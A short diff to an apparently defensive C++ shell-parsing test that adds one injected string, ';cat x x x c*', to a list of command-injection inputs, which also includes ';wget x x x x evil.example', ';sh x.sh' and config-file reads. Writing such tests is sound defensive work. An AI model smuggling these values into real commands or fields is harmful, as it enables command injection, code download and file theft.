@@ -642,6 +642,7 @@ TEST(Shell, NamesThatExpansionsMake) {
                                       ";$(:) id",
                                       ";${z:-} id",
                                       ";cat x x x app/conf",
+                                      ";cat x x x c*",
                                       ";wget x x x x evil.example",
                                       ";sh x.sh x x x x",
                                       "x {\nid",
